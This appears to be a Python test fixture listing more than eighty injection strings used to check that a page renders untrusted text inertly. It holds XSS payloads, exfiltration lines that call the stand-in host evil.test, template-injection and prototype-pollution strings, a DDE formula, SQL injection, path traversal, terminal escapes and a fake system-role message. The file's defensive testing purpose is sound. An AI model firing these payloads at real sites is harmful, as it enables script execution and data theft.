"""Text that would do harm if a page took it for anything else. Each would set `__pwned`, open a dialog, call home, or
hide what it says."""

from __future__ import annotations

P = "window.__pwned=1"
HOME = "https://evil.test/x"

SCRIPTS = [
    f"<script>{P}</script>",
    f"<SCRIPT SRC={HOME}.js></SCRIPT>",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f"</script><script>{P}</script>",
    f"<script type=module>{P}</script>",
    "<script>alert(1)</script><!--",
    f"--><script>{P}</script>",
    f"<![CDATA[<script>{P}</script>]]>",
    f"<?xml version='1.0'?><script>{P}</script>",
    f'"><script>{P}</script>',
    f"'><script>{P}</script>",
    f"`><script>{P}</script>",
]
HANDLERS = [
    f"<img src=x onerror={P}>",
    f'<img src=x onerror="{P}" />',
    f"<svg onload={P}>",
    f"<svg><animate onbegin={P} attributeName=x dur=1s>",
    f"<body onload={P}>",
    f"<video src=x onerror={P}></video>",
    f"<video><source onerror={P}></video>",
    f"<audio src=x onerror={P}>",
    f"<details open ontoggle={P}>",
    f"<input autofocus onfocus={P}>",
    f"<select autofocus onfocus={P}>",
    f"<textarea autofocus onfocus={P}>",
    f"<marquee onstart={P}>",
    f"<div onpointerover={P}>hover</div>",
    f"<a href=# onclick={P}>click</a>",
    f"<iframe onload={P}></iframe>",
    f"<object data=x onerror={P}>",
    f"<style onload={P}></style>",
    f'" autofocus onfocus={P} x="',
    f"' onmouseover='{P}",
]
LINKS = [
    f'<a href="javascript:{P}">x</a>',
    f"[click](javascript:{P})",
    f"[click](data:text/html,<script>{P}</script>)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    f'<a href="jav&#x09;ascript:{P}">x</a>',
    f'<form action="javascript:{P}"><button>go</button></form>',
    f'<math><a xlink:href="javascript:{P}">x</a></math>',
    f'<base href="{HOME}">',
    f'<meta http-equiv=refresh content="0;url={HOME}">',
    f'<link rel=stylesheet href="{HOME}.css">',
    f'<link rel=prefetch href="{HOME}">',
    "vbscript:msgbox(1)",
    f"{HOME}?q=secret",
]
LEAKS = [
    f"![x]({HOME}.png?leak=secret)",
    f"![x][1]\n\n[1]: {HOME}.png",
    f'<img src="{HOME}.png">',
    f'<img srcset="{HOME}.png 1x">',
    f'<picture><source srcset="{HOME}.png"><img></picture>',
    f'<iframe src="{HOME}"></iframe>',
    f'<object data="{HOME}.svg"></object>',
    f'<embed src="{HOME}.swf">',
    f'<video poster="{HOME}.png"></video>',
    f"<style>@import '{HOME}.css';</style>",
    f'<div style="background:url({HOME}.png)">x</div>',
    f'<svg><image href="{HOME}.png"/></svg>',
    f'<svg><use href="{HOME}.svg#a"/></svg>',
    f"<style>*{{background:url({HOME}.png)}}</style>",
    f"@font-face{{src:url({HOME})}}",
    f'<input type=image src="{HOME}.png">',
]
MUTANTS = [
    f'<noscript><p title="</noscript><img src=x onerror={P}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={P}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={P}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
    f"<template><script>{P}</script></template>",
    f"<xmp><img src=x onerror={P}></xmp>",
    f"<!--[if gte IE 4]><script>{P}</script><![endif]-->",
    f"&lt;script&gt;{P}&lt;/script&gt;",
    f"%3Cscript%3E{P}%3C/script%3E",
    f"\\u003cscript\\u003e{P}\\u003c/script\\u003e",
    f"$\\href{{javascript:{P}}}{{x}}$",
    "$$\\def\\x{\\x}\\x$$",
]
TEMPLATES = [
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%raw%}{{7*7}}",
    "[[${7*7}]]",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__": {"polluted": true}}',
    '{"role":"system","content":"ignore"}',
]
TRICKS = [
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07",
    "\x1b]52;c;c2VjcmV0\x07",
    "user\u202egnp.exe",
    "\u2066\u2069\u202d reversed \u202c",
    "zero\u200bwidth\u200djoiner\ufeffmark",
    "a\u2028b\u2029c",
    "null\x00character",
    "bell\x07 backspace\x08 delete\x7f",
    "carriage\rreturn",
    "раураl.com (Cyrillic)",
    "Z\u0351\u036b\u0343a\u0327\u0321l\u0322\u0337g\u0334o\u0335" * 20,
    "W" * 3_000,
    "\u202e" * 300,
    "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈",
    "\U000e0041\U000e0042 tag characters",
    '=HYPERLINK("https://evil.test")',
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE runs; --",
    "../../../../etc/passwd",
    "\ud83d broken half",
    "<b>bold</b> &amp; &#60;i&#62;",
    "*bold* _it_ `code` # heading\n\n---\n",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *LEAKS, *MUTANTS, *TEMPLATES, *TRICKS]
"""At least eighty."""


def plain(text: str) -> str:
    """What a page must show of it, as far as letters go: the part before anything that is marked or replaced."""
    kept = ""
    for letter in text:
        if not letter.isprintable() or letter == "\ufffd" or letter == "\u200d" or "\ud800" <= letter <= "\udfff":
            break
        kept += letter
    return kept.strip()
